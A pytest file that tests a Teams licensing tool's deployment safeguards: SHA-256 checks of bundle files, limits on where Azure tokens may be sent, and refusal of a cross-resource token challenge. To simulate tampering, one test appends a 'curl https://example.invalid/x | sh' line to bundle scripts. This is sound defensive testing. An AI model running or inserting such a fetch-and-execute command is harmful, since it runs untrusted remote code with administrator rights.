"""What `deploy automation` believes before it sends anything: every file of the bundle against `bundle.json`, and
whose token may go to an endpoint given on the command line, or to one that asks for another resource's."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from azure.core.credentials import AccessToken

import teamslicensing.deploy
from teamslicensing import __version__
from teamslicensing.cli import main
from teamslicensing.deploy.connect import STORAGE_SCOPE
from teamslicensing.deploy.options import DeployOptions, Pace, check_options
from teamslicensing.errors import UsageError
from tests.support.fakearm import ARM_TOKEN, STORAGE_TOKEN, FakeAzure, fake_azure
from tests.support.fakearm.bundles import make_test_bundle
from tests.support.fakestorage.store import Reply

SUBSCRIPTION = "00000000-1111-4222-8333-444444444444"


@pytest.fixture(autouse=True)
def fast_and_signed_in(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(teamslicensing.deploy, "DEFAULT_PACE", Pace(poll_seconds=0.01, window_seconds=1.0))
    monkeypatch.setenv("TEAMS_LICENSING_ARM_TOKEN", ARM_TOKEN)
    monkeypatch.setenv("TEAMS_LICENSING_STORAGE_TOKEN", STORAGE_TOKEN)


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    return make_test_bundle(tmp_path / "made", __version__)


@pytest.fixture
def azure(tmp_path: Path) -> Iterator[FakeAzure]:
    with fake_azure(tmp_path) as fake:
        yield fake


def deploy(azure: FakeAzure, bundle: Path, *extra: str) -> int:
    return main(["deploy", "automation", *azure.cli_args(), "--bundle", str(bundle), *extra])


@pytest.mark.parametrize("name", ["grant-permissions.sh", "upload.sh", "README.md", "reconcile_licenses.py"])
def test_every_file_the_bundle_carries_is_checked_against_bundle_json(
    azure: FakeAzure, bundle: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    """grant-permissions.sh is what an admin runs with directory rights next: a changed one must not be named."""
    with (bundle / name).open("ab") as changed:
        changed.write(b"\ncurl https://example.invalid/x | sh\n")
    assert deploy(azure, bundle) == 1
    assert f"{name}: changed since the bundle was made" in capsys.readouterr().err
    assert azure.arm.log == []
    assert azure.storage.requests == []


def test_a_bundle_json_that_does_not_hash_every_file_is_refused(
    azure: FakeAzure, bundle: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A manifest of the format 0.2.0 wrote (bundle 1: the runbook and the wheels only) cannot vouch for the
    scripts: it is refused with what to do."""
    manifest = bundle / "bundle.json"
    document = json.loads(manifest.read_text(encoding="utf-8"))
    document["bundle"] = 1
    del document["files"]
    manifest.write_text(json.dumps(document), encoding="utf-8")
    assert deploy(azure, bundle) == 1
    err = capsys.readouterr().err
    assert "does not record the SHA-256 of grant-permissions.sh, upload.sh and README.md" in err
    assert "make the bundle again with teams-licensing bundle-runbook" in err
    assert azure.arm.log == []


def options(**urls: str) -> DeployOptions:
    return DeployOptions(SUBSCRIPTION, "rg", "aa-teams-licensing", "stlicensing", **urls)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("flag", "url", "variable"),
    [
        ("arm_url", "https://management.example.org", "TEAMS_LICENSING_ARM_TOKEN"),
        ("blob_url", "https://stlicensing.blob.example.org", "TEAMS_LICENSING_STORAGE_TOKEN"),
    ],
)
def test_an_endpoint_given_gets_a_token_only_when_the_token_is_given_too(
    monkeypatch: pytest.MonkeyPatch, flag: str, url: str, variable: str
) -> None:
    """Without the token variables, DefaultAzureCredential signs in: its Azure tokens go to Azure's own endpoints or
    to this machine, never to an https host someone typed."""
    monkeypatch.delenv(variable)
    with pytest.raises(UsageError, match=f"--{flag.replace('_', '-')} '{url}': only with {variable} set"):
        check_options(options(**{flag: url}))
    for loopback in ("https://127.0.0.1:8443", "https://localhost:8443/x", "https://[::1]:8443"):
        check_options(options(**{flag: loopback}))
    monkeypatch.setenv(variable, "a-token-for-that-endpoint")
    check_options(options(**{flag: url}))


def test_an_endpoint_refused_sends_nothing(
    azure: FakeAzure, bundle: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("TEAMS_LICENSING_ARM_TOKEN")
    args = ["deploy", "automation", *azure.cli_args(), "--bundle", str(bundle)]
    args[args.index("--arm-url") + 1] = "https://management.example.org"
    assert main(args) == 1
    assert "nothing was sent to Azure" in capsys.readouterr().err
    assert azure.arm.log == []
    assert azure.storage.requests == []


class SignedIn:
    """DefaultAzureCredential as the clients see it: a token for whatever scope it is asked, each scope recorded."""

    def __init__(self, **_: object) -> None:
        self.scopes: list[tuple[str, ...]] = []

    def get_token(self, *scopes: str, **kwargs: object) -> AccessToken:
        self.scopes.append(scopes)
        token = STORAGE_TOKEN if scopes == (STORAGE_SCOPE,) else f"a token for {scopes[0]}"
        return AccessToken(token, int(time.time()) + 3600)

    def close(self) -> None:
        return None


def test_a_storage_challenge_naming_resource_manager_gets_no_resource_manager_token_fetched_or_sent(
    azure: FakeAzure, bundle: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Signed in with DefaultAzureCredential, the blob endpoint (or whatever answers in its place) answers 401 with a
    challenge naming Resource Manager. The Storage client would ask the credential for that resource's token and
    send it back there; the deployment refuses instead, and fails saying so."""
    monkeypatch.delenv("TEAMS_LICENSING_STORAGE_TOKEN")
    monkeypatch.setattr("teamslicensing.deploy.connect.RETRIES", 0)  # the SDK would try the refused request again
    signed_in = SignedIn()
    monkeypatch.setattr("azure.identity.DefaultAzureCredential", lambda **_: signed_in)
    answer = azure.storage.answer

    def challenged(method: str, path: str, headers: dict[str, str], body: bytes) -> tuple[Reply, str]:
        challenge = "Bearer authorization_uri=https://login.microsoftonline.com/x/oauth2/authorize"
        if headers.get("authorization") == f"Bearer {STORAGE_TOKEN}":
            return Reply(401, {"WWW-Authenticate": f"{challenge} resource_id=https://management.azure.com"}), "r"
        return answer(method, path, headers, body)

    monkeypatch.setattr(azure.storage, "answer", challenged)
    assert deploy(azure, bundle) == 1
    assert signed_in.scopes, "Storage was asked for with the credential's token"
    assert set(signed_in.scopes) == {(STORAGE_SCOPE,)}, "no token for another resource was fetched"
    sent = {r.headers.get("authorization") for r in azure.storage.requests}
    assert sent <= {f"Bearer {STORAGE_TOKEN}", None}
    assert "was asked for on the way to an endpoint of https://storage.azure.com/.default" in capsys.readouterr().err
